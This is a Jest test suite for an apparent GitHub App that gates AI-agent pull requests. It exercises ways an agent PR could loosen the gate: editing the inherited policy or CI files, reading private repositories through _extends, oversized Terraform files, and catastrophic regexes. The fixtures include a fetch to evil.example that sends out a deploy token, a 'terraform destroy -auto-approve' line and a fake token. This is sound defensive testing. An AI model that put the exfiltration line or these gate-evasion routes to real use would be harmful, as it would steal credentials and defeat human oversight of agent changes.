/**
 * Attacks on the policy and what it reads: loosening the gate through files it does not protect
 * (c7), making it read and print what it should not (c8), files too big for the contents API (c9),
 * and patterns that stall the process (c10). Unit-level through loadPolicy/decide where GitHub's
 * behaviour does not matter; over the simulator where it does (files over 1 MB).
 */
import { afterEach, beforeEach, describe, expect } from "@jest/globals";
import { createHash } from "node:crypto";
import { clearPolicyCache, loadPolicy, type LoadedPolicy, type PolicyFile, type PolicyReader } from "../../src/config/load.js";
import { formatProblem } from "../../src/config/parse.js";
import { PatternBudgetError } from "../../src/config/pattern.js";
import { decide } from "../../src/decide.js";
import type { Decision } from "../../src/policy/types.js";
import { commit, facts, file, review } from "../helpers/facts.js";
import { checkRunOf, copilotPullRequest, headOf, people, REPO, seedRepo, startStack, statusOf, type Stack } from "../e2e/harness.js";
import { attack, control } from "./suite.js";

/** An in-memory GitHub for policy files: `owner/repo@ref:path` → text; ref `""` = default branch. */
class MemoryReader implements PolicyReader {
  readonly reads: string[] = [];
  constructor(private readonly files: Record<string, string>) {}
  async read(owner: string, repo: string, path: string, ref?: string): Promise<PolicyFile | null> {
    const key = `${owner}/${repo}@${ref ?? ""}:${path}`;
    this.reads.push(key);
    const text = this.files[key];
    return text === undefined ? null : { text, sha: createHash("sha1").update(text).digest("hex") };
  }
}

const where = { owner: "acme", repo: "app", ref: "main" };
const claude = commit("1a2b3c4", "Change\n\nCo-Authored-By: Claude <noreply@anthropic.com>", { name: "Dana", email: "dana@acme.example", login: "dana" });
const approvedBoth = [review("maria", "APPROVED"), review("max", "APPROVED")];

/** An agent PR changing `files`, approved by two maintainers, judged under `loaded`. */
function agentPr(loaded: LoadedPolicy, files = [file("src/app.ts")], body = ""): Decision {
  return decide(facts({ author: { login: "dana", type: "User" }, body, commits: [claude], files, reviews: approvedBoth }), loaded);
}

/** Everything a user sees of a decision. */
function shown(d: Decision): string {
  return [d.state, d.headline, ...d.problems, ...d.missing, ...d.findings.map((f) => f.message)].join("\n");
}

beforeEach(() => clearPolicyCache());

describe("c7: everything that can loosen the gate is protected", () => {
  const chain = {
    "acme/app@main:.agentgate.yml": "_extends: app:policy/base.yml\n",
    "acme/app@:policy/base.yml": "approvals: { required: 2 }\npaths:\n  - name: infra\n    paths: [infra/**]\n    block: true\n",
  };

  attack("c7", "an agent PR edits the _extends base in the same repository (to drop a block rule)", async () => {
    const loaded = await loadPolicy(new MemoryReader(chain), where);
    const d = agentPr(loaded, [file("policy/base.yml", "@@ -3,3 +3,0 @@\n-  - name: infra\n-    paths: [infra/**]\n-    block: true")]);
    expect(d.state).toBe("failure");
    expect(d.headline).toBe("blocked: path:agentgate-policy-extends on policy/base.yml · agent: claude-code");
  });

  control("c7", "the same chain, an agent PR to application code with two approvals passes", async () => {
    const loaded = await loadPolicy(new MemoryReader(chain), where);
    expect(agentPr(loaded).state).toBe("success");
  });

  for (const ci of [".circleci/config.yml", "ci/Jenkinsfile", ".gitlab-ci.yml", "azure-pipelines.yml", ".buildkite/pipeline.yml", ".github/dependabot.yml"]) {
    attack("c7", `an agent PR edits CI outside .github/workflows: ${ci}`, () => {
      const d = agentPr({ policy: null, problems: [], sources: [] }, [file(ci)]);
      expect(d.state).toBe("failure");
      expect(d.headline).toBe(`blocked: path:ci on ${ci} · agent: claude-code`);
    });
  }

  attack("c7", "an agent PR changes the code of a local action next to its action.yml", async () => {
    const loaded = await loadPolicy(new MemoryReader({}), where);
    const d = agentPr(loaded, [file("tools/deploy/action.yml"), file("tools/deploy/dist/index.js")]);
    expect(d.state).toBe("failure");
    expect(d.findings.filter((f) => f.rule === "path:local-actions").map((f) => f.file)).toEqual(["tools/deploy/action.yml", "tools/deploy/dist/index.js"]);
  });

  control("c7", "an agent PR to a file named like CI but elsewhere (docs/jenkins.md) passes with two approvals", async () => {
    const loaded = await loadPolicy(new MemoryReader({}), where);
    expect(agentPr(loaded, [file("docs/jenkins.md")]).state).toBe("success");
  });
});

describe("c8: nothing leaks", () => {
  const SECRET = "ghp_L3akedT0kenFr0mAPrivateRepo";

  attack("c8", "a policy on an agent's branch _extends a private repository of the organization", async () => {
    const reader = new MemoryReader({
      "acme/app@copilot/x:.agentgate.yml": "_extends: acme/vault:prod/secrets.yml\n",
      "acme/vault@:prod/secrets.yml": `DATABASE_PASSWORD: ${SECRET}\n`,
    });
    const loaded = await loadPolicy(reader, { ...where, ref: "copilot/x" });
    const d = agentPr(loaded);
    expect(d.state).toBe("failure");
    expect(d.problems).toEqual([expect.stringMatching(/_extends: may name only this repository \(acme\/app\) or acme\/\.github; other repositories are not read$/)]);
    expect(reader.reads).not.toContain("acme/vault@:prod/secrets.yml");
    expect(shown(d)).not.toContain(SECRET);
  });

  attack("c8", "a policy _extends another owner's .github repository", async () => {
    const reader = new MemoryReader({ "acme/app@main:.agentgate.yml": "_extends: evil/.github\n", "evil/.github@:.agentgate.yml": "approvals: { required: 0 }\n" });
    const d = agentPr(await loadPolicy(reader, where));
    expect(d.state).toBe("failure");
    expect(reader.reads).toEqual(["acme/app@main:.agentgate.yml"]);
  });

  attack("c8", "a readable non-policy file of the org's .github, _extended, is not quoted in any problem", async () => {
    const reader = new MemoryReader({
      "acme/app@main:.agentgate.yml": "_extends: .github:deploy/credentials.yml\n",
      "acme/.github@:deploy/credentials.yml": [
        `${SECRET}: 1`,
        `token: ${SECRET}`,
        `approvals: ${SECRET}`,
        `applies_to: ${SECRET}`,
        `agents: { trailers: ['(${SECRET}'] }`,
      ].join("\n"),
    });
    const loaded = await loadPolicy(reader, where);
    const d = agentPr(loaded);
    expect(d.state).toBe("failure");
    expect(loaded.problems.length).toBeGreaterThan(3);
    expect(loaded.problems.map(formatProblem).join("\n")).not.toContain(SECRET.slice(4));
    expect(shown(d)).not.toContain(SECRET.slice(4));
  });

  attack("c8", "a YAML syntax error in an _extended file does not print the line around it", async () => {
    const reader = new MemoryReader({
      "acme/app@main:.agentgate.yml": "_extends: .github:x.yml\n",
      "acme/.github@:x.yml": `%${SECRET}\n---\nkey: "${SECRET}\n`,
    });
    const loaded = await loadPolicy(reader, where);
    expect(loaded.problems.length).toBeGreaterThan(0);
    expect(shown(agentPr(loaded))).not.toContain(SECRET.slice(4));
  });

  attack("c8", "a .tf.json that is not JSON: the finding says so without quoting the text around the error", async () => {
    const broken = `{"resource": {"aws_db_instance": {"main": {"password": ${SECRET}}}}}`;
    const tf = file("infra/main.tf.json", `@@ -1 +1 @@\n-${broken}\n+{}`, { baseContent: broken, headContent: "{}" });
    const d = agentPr(await loadPolicy(new MemoryReader({}), where), [tf]);
    expect(d.findings).toEqual([expect.objectContaining({ rule: "META-02", file: "infra/main.tf.json", message: expect.stringContaining("it is not valid JSON") })]);
    expect(d.findings.map((f) => f.message).join("\n")).not.toContain(SECRET.slice(4));
  });

  control("c8", "a same-repository _extends still loads and the PR passes with two approvals", async () => {
    const reader = new MemoryReader({ "acme/app@main:.agentgate.yml": "_extends: app:policy/base.yml\n", "acme/app@:policy/base.yml": "approvals: { required: 2 }\n" });
    const loaded = await loadPolicy(reader, where);
    expect(loaded.problems).toEqual([]);
    expect(agentPr(loaded).state).toBe("success");
  });

  control("c8", "an _extends of the organization's .github still loads and the PR passes with two approvals", async () => {
    const reader = new MemoryReader({ "acme/app@main:.agentgate.yml": "_extends: acme/.github:policies/base.yml\n", "acme/.github@:policies/base.yml": "approvals: { required: 2 }\n" });
    const loaded = await loadPolicy(reader, where);
    expect(loaded.sources).toEqual(["acme/app@main:.agentgate.yml", "acme/.github:policies/base.yml"]);
    expect(agentPr(loaded).state).toBe("success");
  });
});

describe("c10: a policy cannot stall the App", () => {
  const CATASTROPHIC = "(a+)+$";

  attack("c10", "a policy marker (a+)+$ against 40 a's and ! in the PR body finishes in milliseconds", async () => {
    const reader = new MemoryReader({
      "acme/app@copilot/x:.agentgate.yml": `agents:\n  markers:\n    - agent: x\n      source: pr-body\n      pattern: '${CATASTROPHIC}'\n  trailers: ['${CATASTROPHIC}']\ninfra:\n  allow:\n    - rule: '*'\n      pattern: '${CATASTROPHIC}'\n      reason: r\n`,
    });
    const loaded = await loadPolicy(reader, { ...where, ref: "copilot/x" });
    expect(loaded.problems).toEqual([]);
    const evil = "a".repeat(40) + "!";
    const t0 = performance.now();
    const d = decide(
      facts({
        body: evil,
        title: evil,
        commits: [commit("9", `${evil}\n\nX-Trailer: ${evil}`, { name: "Dana", email: "dana@acme.example", login: "dana" })],
        files: [file("scripts/reset.sh", `@@ -0,0 +1 @@\n+terraform destroy -auto-approve # ${evil}`)],
      }),
      loaded,
    );
    // A stall guard, not a speed test: backtracking on this input takes hours.
    expect(performance.now() - t0).toBeLessThan(3000);
    expect(d.state).not.toBe("error");
  });

  /** Fifty policy markers on commit messages: linear each, but together they could read 200 MB. */
  async function manyMarkers() {
    const markers = Array.from({ length: 50 }, (_, i) => `    - agent: x${i}\n      source: commit-message\n      pattern: 'zz${i}[0-9]+q'\n`).join("");
    const reader = new MemoryReader({ "acme/app@copilot/x:.agentgate.yml": `agents:\n  markers:\n${markers}` });
    const loaded = await loadPolicy(reader, { ...where, ref: "copilot/x" });
    expect(loaded.problems).toEqual([]);
    return loaded;
  }
  const dana = { name: "Dana", email: "dana@acme.example", login: "dana" };

  attack("c10", "fifty policy markers over 250 commit messages of 16 KiB stop at the pattern budget: an error, not seconds of matching", async () => {
    const loaded = await manyMarkers();
    const long = "word ".repeat(16 * 1024 / 5);
    const commits = Array.from({ length: 250 }, (_, i) => commit(String(i), `Change ${i}\n\n${long}`, dana));
    expect(() => decide(facts({ commits, commitCount: commits.length }), loaded)).toThrow(PatternBudgetError);
  });

  control("c10", "the same fifty markers over an ordinary pull request decide as usual", async () => {
    const loaded = await manyMarkers();
    const commits = Array.from({ length: 20 }, (_, i) => commit(String(i), `Change ${i}\n\nFix the thing.`, dana));
    const d = decide(facts({ commits, commitCount: commits.length, reviews: approvedBoth }), loaded);
    expect(d.state).toBe("success");
  });

  attack("c10", "a policy pattern with a backreference or lookahead is refused with its key and line", async () => {
    const reader = new MemoryReader({ "acme/app@main:.agentgate.yml": "agents:\n  trailers:\n    - '(a*)*\\1b'\n    - '(?=(a+))+x'\n" });
    const d = agentPr(await loadPolicy(reader, where));
    expect(d.state).toBe("failure");
    expect(d.problems).toEqual([
      expect.stringMatching(/^acme\/app@main:\.agentgate\.yml:3:7: agents\.trailers\[0\]: not a valid regular expression: uses syntax RE2 does not support/),
      expect.stringMatching(/^acme\/app@main:\.agentgate\.yml:4:7: agents\.trailers\[1\]: not a valid regular expression: uses syntax RE2 does not support/),
    ]);
  });

  control("c10", "a policy with a plain safe regex still matches: a PR-body marker makes a human-looking PR agent-written", async () => {
    const reader = new MemoryReader({ "acme/app@main:.agentgate.yml": "agents:\n  markers:\n    - agent: in-house\n      source: pr-body\n      pattern: '^generated by in-house-coder\\b'\n" });
    const loaded = await loadPolicy(reader, where);
    const human = commit("5", "Fix", { name: "Alice", email: "alice@acme.example", login: "alice" });
    const d = decide(facts({ body: "Summary\nGenerated by In-House-Coder v2\n", commits: [human], reviews: approvedBoth }), loaded);
    expect(d.detection.agents).toEqual(["in-house"]);
    expect(d.state).toBe("success");
  });
});

describe("c7 over the simulator: local actions the base branch's workflows run", () => {
  let stack: Stack;
  beforeEach(async () => {
    stack = await startStack();
  });
  afterEach(async () => {
    await stack.stop();
  });

  const withLocalAction = {
    ".github/workflows/deploy.yml": "on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./tools/deploy\n        with: { token: '${{ secrets.DEPLOY_TOKEN }}' }\n",
    "tools/deploy/action.yml": "name: deploy\nruns:\n  using: node20\n  main: index.js\n",
    "tools/deploy/index.js": "console.log('deploy');\n",
  };

  async function approveTwice(number: number) {
    await stack.sim.submitReview(REPO, number, { reviewer: people.maintainerA.login, event: "APPROVE" });
    await stack.sim.submitReview(REPO, number, { reviewer: people.maintainerB.login, event: "APPROVE" });
  }

  attack("c7", "an agent changes only the code of a local action a workflow runs (its action.yml untouched)", async () => {
    const { sim } = stack;
    seedRepo(sim, withLocalAction);
    const { number } = await copilotPullRequest(sim, { "tools/deploy/index.js": "fetch('https://evil.example/?t=' + process.env.INPUT_TOKEN);\n" });
    await approveTwice(number);
    expect(statusOf(sim, number)).toMatchObject({ state: "failure", description: "blocked: path:local-actions on tools/deploy/index.js · agent: copilot" });
  }, 60_000);

  control("c7", "in the same repository, an agent PR to application code passes with two approvals", async () => {
    const { sim } = stack;
    seedRepo(sim, withLocalAction);
    const { number } = await copilotPullRequest(sim, { "src/app.ts": "export const answer = 42;\n" });
    await approveTwice(number);
    expect(statusOf(sim, number)).toMatchObject({ state: "success" });
  }, 60_000);
});

describe("c9: big files fail closed (over the simulator)", () => {
  let stack: Stack;
  beforeEach(async () => {
    stack = await startStack();
  });
  afterEach(async () => {
    await stack.stop();
  });

  const json = (v: unknown) => JSON.stringify(v, null, 2) + "\n";
  /** A Terraform JSON file with a database and about `padding` bytes of inert locals, in short
   *  lines (so that GitHub still shows a small patch, and the file is big only as a whole). */
  const tfJson = (withDb: boolean, padding: number, instanceType = "t3.small") =>
    json({
      locals: { padding: Array.from({ length: Math.ceil(padding / 100) }, (_, i) => `${i}`.padEnd(90, "p")) },
      resource: {
        ...(withDb ? { aws_db_instance: { main: { engine: "postgres" } } } : {}),
        aws_instance: { web: { instance_type: instanceType } },
      },
    });
  const MB = 1024 * 1024;

  async function approveTwice(number: number) {
    await stack.sim.submitReview(REPO, number, { reviewer: people.maintainerA.login, event: "APPROVE" });
    await stack.sim.submitReview(REPO, number, { reviewer: people.maintainerB.login, event: "APPROVE" });
  }

  attack("c9", "an agent removes a database from a .tf.json over 1 MB (the contents API sends it empty)", async () => {
    const { sim } = stack;
    seedRepo(sim, { "infra/main.tf.json": tfJson(true, 1.5 * MB) });
    const { number } = await copilotPullRequest(sim, { "infra/main.tf.json": tfJson(false, 1.5 * MB) });
    await approveTwice(number);
    expect(statusOf(sim, number)).toMatchObject({ state: "failure", description: expect.stringMatching(/^blocked: TF-01 on infra\/main\.tf\.json/) });
    expect(checkRunOf(sim, headOf(sim, number))?.conclusion).toBe("failure");
  }, 60_000);

  control("c9", "a normal-size .tf.json change that removes nothing passes with two approvals", async () => {
    const { sim } = stack;
    seedRepo(sim, { "infra/main.tf.json": tfJson(true, 100) });
    const { number } = await copilotPullRequest(sim, { "infra/main.tf.json": tfJson(true, 100, "t3.medium") });
    await approveTwice(number);
    expect(statusOf(sim, number)).toMatchObject({ state: "success" });
  }, 60_000);

  control("c9", "a .tf.json over 1 MB that removes nothing is read through git blobs and passes with two approvals", async () => {
    const { sim } = stack;
    seedRepo(sim, { "infra/main.tf.json": tfJson(true, 1.5 * MB) });
    const { number } = await copilotPullRequest(sim, { "infra/main.tf.json": tfJson(true, 1.5 * MB, "t3.medium") });
    await approveTwice(number);
    expect(statusOf(sim, number)).toMatchObject({ state: "success" });
  }, 60_000);

  attack("c9", "a .tf.json over the 10 MB context limit is not guessed at: error, naming the file", async () => {
    const { sim } = stack;
    seedRepo(sim, { "infra/main.tf.json": tfJson(true, 11 * MB) });
    const { number } = await copilotPullRequest(sim, { "infra/main.tf.json": tfJson(false, 11 * MB) });
    await approveTwice(number);
    expect(statusOf(sim, number)?.state).toBe("error");
    expect(checkRunOf(sim, headOf(sim, number))?.output.summary).toMatch(/infra\/main\.tf\.json is \d+ bytes; agentgate reads it whole only up to 10485760 bytes/);
  }, 60_000);

  attack("c9", "a policy over 1 MB on the base branch (that would read as empty: the defaults) is an error", async () => {
    const { sim } = stack;
    const huge = `approvals: { required: 3 }\n${"# padding\n".repeat(120_000)}`;
    seedRepo(sim, { ".agentgate.yml": huge });
    const { number } = await copilotPullRequest(sim, { "src/app.ts": "export const answer = 42;\n" });
    await approveTwice(number);
    expect(statusOf(sim, number)?.state).toBe("error");
    const summary = checkRunOf(sim, headOf(sim, number))?.output.summary ?? "";
    expect(summary).toMatch(/\.agentgate\.yml is \d+ bytes; agentgate reads it whole only up to 524288 bytes/);
    expect(summary).not.toContain("# padding");
  }, 60_000);

  control("c9", "a normal policy with the same content is read and applied (3 approvals needed)", async () => {
    const { sim } = stack;
    seedRepo(sim, { ".agentgate.yml": "approvals: { required: 3 }\n" });
    const { number } = await copilotPullRequest(sim, { "src/app.ts": "export const answer = 42;\n" });
    await approveTwice(number);
    expect(statusOf(sim, number)).toMatchObject({ state: "pending", description: expect.stringMatching(/^2\/3 approvals/) });
  }, 60_000);
});
